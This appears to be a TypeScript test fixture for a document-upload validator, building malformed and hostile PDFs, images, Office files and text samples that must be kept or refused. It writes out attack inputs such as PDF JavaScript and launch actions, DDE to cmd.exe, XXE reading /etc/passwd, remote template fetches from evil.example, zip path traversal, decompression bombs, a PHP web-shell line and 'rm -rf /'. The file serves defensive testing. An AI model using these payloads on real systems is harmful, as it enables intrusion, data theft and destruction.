import { crc32, deflateSync } from 'node:zlib'
import type { DocumentKind } from '../../src/platform/files/documents/kind.ts'
import { zip, type ZipPart } from './good.ts'
import type { Random } from './random.ts'

/** A document that is broken, hostile or merely says too much, and what must come of it. */
export interface DocumentSort {
  readonly name: string
  /** What it is kept as; or `refused`, with a sentence. */
  readonly fate: DocumentKind | 'refused'
  /** What it is called by whoever sends it; no name may change anything. */
  readonly called?: string
  readonly make: (random: Random) => Buffer
}

/** It takes a second or more to make or to read: only with the whole set. */
export const isLong = ({ name }: DocumentSort): boolean => /without end|bomb|25 MB|nested|5,000/.test(name)

/** Words that must be nowhere in what is kept. */
export const secret = 'WhoMadeThis-51.5074N'

const bytes = (text: string): Buffer => Buffer.from(text, 'latin1')
const joined = (...pieces: readonly (Buffer | string)[]): Buffer =>
  Buffer.concat(pieces.map((piece) => (typeof piece === 'string' ? bytes(piece) : piece)))
const refused = (name: string, make: DocumentSort['make'], called?: string): DocumentSort => ({ name, fate: 'refused', make, ...(called !== undefined && { called }) }) // prettier-ignore
const kept = (fate: DocumentKind, name: string, make: DocumentSort['make'], called?: string): DocumentSort => ({ name, fate, make, ...(called !== undefined && { called }) }) // prettier-ignore

/* PDF, by hand, so that it may hold anything. */

interface PdfParts {
  readonly catalog?: string
  readonly page?: string
  readonly more?: readonly string[]
  readonly trailer?: string
}

/** A PDF of one page; further objects are numbered from 5. */
function pdf({ catalog = '', page = '', more = [], trailer = '' }: PdfParts = {}): Buffer {
  const content = 'BT /F1 12 Tf 72 720 Td (A letter) Tj ET'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${page} >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ...more,
  ]
  let text = '%PDF-1.7\n'
  const places = objects.map((object, i) => {
    const at = text.length
    text += `${i + 1} 0 obj\n${object}\nendobj\n`
    return `${String(at).padStart(10, '0')} 00000 n \n`
  })
  const at = text.length
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`
  return bytes(text)
}

const stream = (dict: string, content: string): string => `<< ${dict} /Length ${content.length} >>\nstream\n${content}\nendstream` // prettier-ignore
const packed = (content: string): string => deflateSync(content).toString('latin1')
/** Objects within a packed object, where a scan for words does not see them. */
const inStream = (object: string): string => stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`9 0 ${object}`)) // prettier-ignore
const js = '<< /S /JavaScript /JS (app.alert(1)) >>'

const pdfs: readonly DocumentSort[] = [
  kept('pdf', 'a PDF that says who made it', () => pdf({ more: [`<< /Author (${secret}) /Producer (${secret}) >>`], trailer: '/Info 5 0 R' })),
  kept('pdf', 'a PDF whose maker stands apart', () => pdf({ more: ['<< /Author 6 0 R >>', `(${secret})`], trailer: '/Info 5 0 R' })),
  kept('pdf', 'a PDF with XMP', () => pdf({ catalog: '/Metadata 5 0 R', more: [stream('/Type /Metadata /Subtype /XML', `<x:xmpmeta>${secret}</x:xmpmeta>`)] })),
  kept('pdf', 'a PDF with an earlier page left in it', () => pdf({ more: [`(${secret})`] })),
  kept('pdf', 'a PDF with a page’s private notes', () => pdf({ page: `/PieceInfo << /App << /Private (${secret}) >> >> /LastModified (D:2026)` })),
  kept('pdf', 'a PDF with a program after it', () => joined(pdf(), 'MZ\x90\0', secret)),
  kept('pdf', 'a PDF with a zip after it', () => joined(pdf(), zip([{ name: 'a.txt', content: bytes(secret) }]))),
  kept('pdf', 'a PDF with a web page after it', () => joined(pdf(), `<script>${secret}</script>`), 'letter.html'),
  kept('pdf', 'a PDF called a picture', () => pdf(), 'photo.jpg'),
  refused('a PDF that runs JavaScript when opened', () => pdf({ catalog: `/OpenAction ${js}` })),
  refused('a PDF that runs JavaScript, spelt otherwise', () => pdf({ catalog: '/OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >>' })),
  refused('a PDF with named JavaScript', () => pdf({ catalog: `/Names << /JavaScript << /Names [(a) ${js}] >> >>` })),
  refused('a PDF with JavaScript on a page', () => pdf({ page: `/AA << /O ${js} >>` })),
  refused('a PDF with JavaScript in a packed object', () => pdf({ more: [inStream(js)], catalog: '/OpenAction 9 0 R' })),
  refused('a PDF with JavaScript nothing leads to', () => pdf({ more: [js] })),
  refused('a PDF that starts a program', () => pdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' })),
  refused('a PDF that sends what is typed', () => pdf({ page: '/Annots [<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (http://x) >> >>]' })),
  refused('a PDF with a file in it', () => pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', more: ['<< /Type /Filespec /EF << /F 6 0 R >> >>', stream('/Type /EmbeddedFile', 'MZ')] })),
  refused('a PDF with a file pinned to a page', () => pdf({ page: '/Annots [<< /Subtype /FileAttachment /FS << /EF << >> >> >>]' })),
  refused('a PDF with film', () => pdf({ page: '/Annots [<< /Subtype /RichMedia >>]' })),
  refused('a PDF with sound', () => pdf({ page: '/Annots [<< /Subtype /Sound >>]' })),
  refused('a PDF with an XFA form', () => pdf({ catalog: '/AcroForm << /XFA 5 0 R >>', more: [stream('', '<xdp/>')] })),
  refused('a PDF that is locked', () => pdf({ more: ['<< /Filter /Standard /V 2 /R 3 /O (a) /U (b) /P -4 >>'], trailer: '/Encrypt 5 0 R /ID [(a) (b)]' })),
  refused('a PDF cut short', (random) => pdf().subarray(0, 20 + random.below(300))),
  refused('a PDF of nothing', () => bytes('%PDF-1.7\n%%EOF')),
  refused('a PDF without pages', () => joined('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF')),
  refused('a PDF nested without end', () => pdf({ page: `/X ${'['.repeat(20_000)}${']'.repeat(20_000)}` })),
  refused('a PDF whose pages hold one another', () => joined('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF')),
  refused('a PDF that unpacks without end', () => pdf({ more: [stream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.alloc(300 * 1024 * 1024))).toString('latin1'))] })),
  refused('a PDF of noise', (random) => joined('%PDF-1.4\n', noise(random, 4000), '%%EOF')),
] // prettier-ignore

const noise = (random: Random, length: number): Buffer =>
  Buffer.from(Array.from({ length }, () => random.below(256)))

/* Pictures. */

const segment = (marker: number, body: Buffer | string): Buffer => {
  const content = joined(body)
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([head, content])
}
const frame = (width: number, height: number): Buffer => {
  const body = Buffer.from([8, 0, 0, 0, 0, 1, 1, 0x11, 0])
  body.writeUInt16BE(height, 1)
  body.writeUInt16BE(width, 3)
  return segment(0xc0, body)
}
const tables = joined(segment(0xdb, joined('\0', Buffer.alloc(64, 16))), segment(0xc4, joined('\0', Buffer.from([0, 1, ...Array(14).fill(0), 0])))) // prettier-ignore
/** A grey square: as much of a photo as its form is. */
const jpeg = (...inside: readonly Buffer[]): Buffer =>
  joined(
    '\xff\xd8',
    ...inside,
    tables,
    frame(8, 8),
    segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])),
    '\x7f\xff\0\x12',
    '\xff\xd9',
  )
const exif = (turned = 6): Buffer => {
  const tiff = joined('II*\0\x08\0\0\0\x02\0\x12\x01\x03\0\x01\0\0\0', Buffer.from([turned, 0, 0, 0]), '\x25\x88\x04\0\x01\0\0\0\x30\0\0\0\0\0\0\0', secret)
  return segment(0xe1, joined('Exif\0\0', tiff))
} // prettier-ignore

const chunk = (type: string, content: Buffer | string): Buffer => {
  const body = joined(type, content)
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(body.length - 4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
const header = (width: number, height: number, depth = 8, colours = 0): Buffer => {
  const body = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, depth, colours, 0, 0, 0])
  body.writeUInt32BE(width, 0)
  body.writeUInt32BE(height, 4)
  return chunk('IHDR', body)
}
const data = chunk('IDAT', deflateSync(Buffer.from([0, 127])))
const end = chunk('IEND', '')
const png = (...inside: readonly Buffer[]): Buffer => joined('\x89PNG\r\n\x1a\n', header(1, 1), ...inside, data, end) // prettier-ignore

const pictures: readonly DocumentSort[] = [
  kept('jpeg', 'a photo that says where it was taken', () => jpeg(exif())),
  kept('jpeg', 'a photo with XMP', () => jpeg(segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${secret}`))),
  kept('jpeg', 'a photo with a caption', () => jpeg(segment(0xfe, secret), segment(0xed, `Photoshop 3.0\0${secret}`))),
  kept('jpeg', 'a photo with a zip after it', () => joined(jpeg(), zip([{ name: 'a', content: bytes(secret) }]))),
  kept('jpeg', 'a photo with a web page in its caption', () => jpeg(segment(0xfe, `<script>${secret}</script>`)), 'a.html'),
  kept('jpeg', 'a photo whose Exif points nowhere', () => jpeg(segment(0xe1, joined('Exif\0\0II*\0\xff\xff\xff\xff', secret)))),
  refused('a photo cut short', (random) => jpeg(exif()).subarray(0, 10 + random.below(160))),
  refused('a photo without a picture', () => joined('\xff\xd8', tables, '\xff\xd9')),
  refused('a photo larger than any camera’s', () => joined('\xff\xd8', tables, frame(65_535, 65_535), segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])), '\x7f\xff\xd9')),
  refused('a photo of no width', () => joined('\xff\xd8', tables, frame(0, 8), segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])), '\x7f\xff\xd9')),
  refused('a photo drawn a thousand times over', () => joined('\xff\xd8', tables, frame(8, 8), ...Array.from({ length: 1000 }, () => joined(segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])), '\x7f')), '\xff\xd9')),
  refused('a photo whose frame is too short', () => joined('\xff\xd8', segment(0xc0, 'a'), '\xff\xd9')),
  refused('a photo of noise', (random) => joined('\xff\xd8\xff\xe0', noise(random, 3000))),
  kept('png', 'a picture with words in it', () => png(chunk('tEXt', `Author\0${secret}`), chunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${secret}`))),
  kept('png', 'a picture that says where it was taken', () => png(chunk('eXIf', secret), chunk('tIME', '\x07\xea\x0b\x16\0\0\0'))),
  kept('png', 'a picture with a second behind it', () => png(chunk('acTL', '\0\0\0\x02\0\0\0\0'), chunk('fdAT', secret))),
  kept('png', 'a picture with a program after it', () => joined(png(), 'MZ', secret), 'a.exe'),
  refused('a picture cut short', (random) => png(chunk('tEXt', secret)).subarray(0, 9 + random.below(80))),
  refused('a picture larger than any camera’s', () => joined('\x89PNG\r\n\x1a\n', header(100_000, 100_000), data, end)),
  refused('a picture of no height', () => joined('\x89PNG\r\n\x1a\n', header(1, 0), data, end)),
  refused('a picture of no known colours', () => joined('\x89PNG\r\n\x1a\n', header(1, 1, 7, 9), data, end)),
  refused('a picture that was changed', () => { const made = png(); made[20] = 99; return made }),
  refused('a picture with a part said to be four gigabytes', () => joined('\x89PNG\r\n\x1a\n', header(1, 1), '\xff\xff\xff\xffIDAT')),
  refused('a picture without a picture', () => joined('\x89PNG\r\n\x1a\n', header(1, 1), end)),
  refused('a GIF', () => bytes('GIF89a\x01\0\x01\0\0\0\0;')),
  refused('an SVG that runs a script', () => bytes('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'), 'drawing.png'),
  refused('an SVG under an XML line', () => bytes('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'), 'drawing.png'),
  refused('a photo as iPhones keep it', () => bytes('\0\0\0\x18ftypheic\0\0\0\0mif1heic')),
  refused('a TIFF', () => bytes('II*\0\x08\0\0\0\0\0')),
  refused('a WebP picture', () => bytes('RIFF\x1a\0\0\0WEBPVP8 ')),
] // prettier-ignore

/* Office documents. */

const part = (name: string, content: string): ZipPart => ({ name, content: Buffer.from(content) })
const types = (main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'): ZipPart =>
  part('[Content_Types].xml', `<Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`) // prettier-ignore
const words = (inside = ''): ZipPart => part('word/document.xml', `<w:document><w:body><w:p><w:r><w:t>A letter</w:t></w:r></w:p>${inside}</w:body></w:document>`) // prettier-ignore
const rels = (inside: string): ZipPart =>
  part('word/_rels/document.xml.rels', `<Relationships>${inside}</Relationships>`)
const relationship = (type: string, target: string): string => `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>` // prettier-ignore
const docx = (...more: readonly ZipPart[]): Buffer => zip([types(), words(), ...more])
const xlsx = (...more: readonly ZipPart[]): Buffer => zip([types('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'), part('xl/workbook.xml', '<workbook/>'), ...more]) // prettier-ignore
const odt = (...more: readonly ZipPart[]): Buffer => zip([part('mimetype', 'application/vnd.oasis.opendocument.text'), part('content.xml', '<office:document-content/>'), ...more]) // prettier-ignore

const office: readonly DocumentSort[] = [
  kept('docx', 'a Word document that says who made it', () => docx(part('docProps/core.xml', `<cp><dc:creator>${secret}</dc:creator></cp>`), part('docProps/app.xml', `<P><Company>${secret}</Company></P>`), part('docProps/custom.xml', `<P>${secret}</P>`))),
  kept('docx', 'a Word document with a photo that says where it was taken', () => docx({ name: 'word/media/image1.jpeg', content: jpeg(exif()) })),
  kept('docx', 'a Word document with a picture of its first page', () => docx({ name: 'docProps/thumbnail.jpeg', content: bytes(secret) })),
  kept('docx', 'a Word document that links to a page', () => docx(rels(relationship('hyperlink', 'https://www.gov.uk')))),
  kept('docx', 'a Word document with a program before it', () => docx(), 'letter.exe'),
  kept('docx', 'a Word document with something after it', () => joined(docx(), '<script>', secret)),
  kept('xlsx', 'an Excel workbook that says which printer', () => xlsx({ name: 'xl/printerSettings/printerSettings1.bin', content: bytes(secret) })),
  kept('odt', 'an OpenDocument text that says who made it', () => odt(part('meta.xml', `<m>${secret}</m>`), { name: 'Thumbnails/thumbnail.png', content: bytes(secret) })),
  refused('a Word document with macros', () => docx({ name: 'word/vbaProject.bin', content: bytes('\xd0\xcf\x11\xe0') })),
  refused('a Word document with macros under another name', () => zip([types('application/vnd.ms-word.document.macroEnabled.main+xml'), words(), part('word/other.bin', 'a')])),
  refused('a Word document with another in it', () => docx({ name: 'word/embeddings/a.docx', content: docx() })),
  refused('a Word document with a zip called a picture', () => docx({ name: 'word/media/image1.png', content: zip([part('a', 'b')]) })),
  refused('a Word document with a program called a picture', () => docx({ name: 'word/media/image1.png', content: bytes('MZ\x90\0') })),
  refused('a Word document that fetches a template', () => docx(rels(relationship('attachedTemplate', 'http://evil.example/a.dotm')))),
  refused('a Word document that fetches an object', () => docx(rels(relationship('oleObject', 'http://evil.example/a.html!')))),
  refused('a Word document that fetches a picture', () => docx(rels(relationship('image', 'file://server/share/a.png')))),
  refused('a Word document with a DDE field', () => zip([types(), words('<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>')])),
  refused('a Word document that defines an entity', () => zip([types(), part('word/document.xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>')])),
  refused('a Word document of a billion laughs', () => zip([types(), part('word/document.xml', `<!DOCTYPE a [${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]><a>&l9;</a>`)])),
  refused('a Word document in UTF-16', () => zip([types(), { name: 'word/document.xml', content: Buffer.from('\ufeff<w:document/>', 'utf16le') }])),
  refused('a Word document with ActiveX', () => docx(part('word/activeX/activeX1.xml', '<ax/>'))),
  refused('an Excel workbook with an old macro sheet', () => xlsx(part('xl/macrosheets/sheet1.xml', '<x/>'))),
  refused('an Excel workbook with a connection', () => xlsx(part('xl/connections.xml', '<x/>'))),
  refused('an Excel workbook that reads others', () => xlsx(part('xl/externalLinks/externalLink1.xml', '<x/>'))),
  refused('an Excel workbook of DDE', () => xlsx(part('xl/worksheets/sheet1.xml', '<x><ddeLink ddeService="cmd"/></x>'))),
  refused('an OpenDocument text with macros', () => odt(part('Basic/Standard/Module1.xml', '<x/>'))),
  refused('an OpenDocument text that acts', () => zip([part('mimetype', 'application/vnd.oasis.opendocument.text'), part('content.xml', '<o><script:event-listener script:language="ooo:script"/></o>')])),
  refused('an OpenDocument text with an object', () => odt(part('Object 1/content.xml', '<x/>'))),
  refused('an OpenDocument text that is locked', () => odt(part('META-INF/manifest.xml', '<m><manifest:encryption-data/></m>'))),
  refused('a PowerPoint', () => zip([types(), part('ppt/presentation.xml', '<p/>')])),
  refused('a zip', () => zip([part('letter.txt', 'A letter')]), 'letter.docx'),
  refused('a zip in a zip', () => zip([{ name: 'a.zip', content: zip([{ name: 'b.zip', content: zip([part('c', 'd')]) }]) }])),
  refused('a Word document whose part climbs out', () => docx(part('../../../../etc/passwd', 'x'))),
  refused('a Word document whose part is absolute', () => docx(part('/etc/passwd', 'x'))),
  refused('a Word document whose part has a backslash', () => docx(part('..\\..\\a.exe', 'x'))),
  refused('a Word document whose part has a NUL', () => docx(part('word/a\0.xml', 'x'))),
  refused('a Word document whose part is written backwards', () => docx(part('word/\u202egnp.exe', 'x'))),
  refused('a Word document with a part twice', () => docx(words('again'))),
  refused('a Word document with two parts but for a capital', () => docx(part('Word/Document.xml', '<x/>'))),
  refused('a Word document that unpacks without end', () => docx({ name: 'word/media/a.emf', content: Buffer.alloc(100 * 1024 * 1024) })),
  refused('a Word document that says a bomb is small', () => docx({ name: 'word/media/a.emf', content: Buffer.alloc(100 * 1024 * 1024), says: 1000 })),
  refused('a Word document that says a small part is large', () => docx({ name: 'word/media/a.emf', content: bytes('a'), says: 0xfffffff0 })),
  refused('a Word document that is locked', () => docx({ name: 'word/a.xml', content: bytes('a'), flags: 1 })),
  refused('a Word document of 5,000 parts', () => docx(...Array.from({ length: 5000 }, (_, i) => part(`word/a${i}.xml`, '<x/>')))),
  refused('a Word document cut short', (random) => docx().subarray(0, 30 + random.below(400))),
  refused('a Word document with a byte changed', () => { const made = docx(); made[60] = (made[60] ?? 0) ^ 0xff; return made }),
  refused('a zip of noise', (random) => joined('PK\x03\x04', noise(random, 3000))),
] // prettier-ignore

/* Text, programs and what is none of them. */

const others: readonly DocumentSort[] = [
  kept('text', 'a CSV of formulas', () => bytes('=cmd|\' /C calc\'!A0,@SUM(1),+1,-1\r\n'), 'list.csv'),
  kept('text', 'text with a mark before it', () => Buffer.from('\ufeffLeo wrote: “I like Nan’s”')),
  kept('text', 'text in UTF-16', () => Buffer.from('\ufeffLeo wrote', 'utf16le')),
  kept('text', 'text of an old Windows', () => bytes('Caf\xe9 at 3 \x96 \x93Nan\x94')),
  kept('text', 'text whose name is written backwards', () => bytes('A letter'), 'letter\u202etxt.exe'),
  kept('text', 'text whose name climbs out', () => bytes('A letter'), '../../../../etc/cron.d/letter'),
  kept('text', 'text whose name holds a NUL', () => bytes('A letter'), 'letter.exe\0.txt'),
  kept('text', 'text whose name is a script', () => bytes('A letter'), '"><img src=x onerror=alert(1)>.txt'),
  kept('text', 'text whose name is 4,000 letters', () => bytes('A letter'), 'a'.repeat(4000)),
  kept('text', 'text called like a device', () => bytes('A letter'), 'CON'),
  refused('nothing', () => Buffer.alloc(0)),
  refused('white space', () => bytes(' \r\n\t ')),
  refused('zeros', () => Buffer.alloc(1000)),
  refused('noise', (random) => joined('\0', noise(random, 2000))),
  refused('25 MB and a byte', () => Buffer.alloc(25 * 1024 * 1024 + 1, 'a')),
  refused('a web page called a PDF', () => bytes('<!DOCTYPE html><html><body onload=alert(1)>'), 'letter.pdf'),
  refused('a web page after white space', () => bytes('\n\n  <html><script>alert(1)</script>')),
  refused('a web page hidden in text', () => bytes('Dear Ms Ford\n<script src=//evil.example></script>')),
  refused('a web page in UTF-16', () => Buffer.from('\ufeff<html><script>alert(1)</script>', 'utf16le')),
  refused('a PHP page', () => bytes('<?php system($_GET["c"]);'), 'photo.png'),
  refused('a program of Windows', () => joined('MZ\x90\0', Buffer.alloc(200)), 'letter.pdf'),
  refused('a program of Linux', () => joined('\x7fELF\x02\x01\x01', Buffer.alloc(200))),
  refused('a script', () => bytes('#!/bin/sh\nrm -rf /\n'), 'letter.txt'),
  refused('an old Word document', () => joined('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(600)), 'letter.doc'),
  refused('an email', () => bytes('From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n')),
  refused('rich text', () => bytes('{\\rtf1{\\object\\objdata 0105}}')),
  refused('a RAR', () => bytes('Rar!\x1a\x07\0')),
  refused('a gzip', () => bytes('\x1f\x8b\x08\0')),
  refused('a film', () => bytes('\0\0\0\x18ftypisom\0\0\0\0')),
  refused('a sound', () => bytes('ID3\x03\0\0\0')),
  refused('the EICAR test file, with escapes', () => bytes('X5O!P%@AP[4\\PZX54(P^)7CC)7}$\x1b')),
  refused('a PDF after something else', () => joined('\0\0\0', pdf())),
] // prettier-ignore

export const documentSorts: readonly DocumentSort[] = [...pdfs, ...pictures, ...office, ...others]
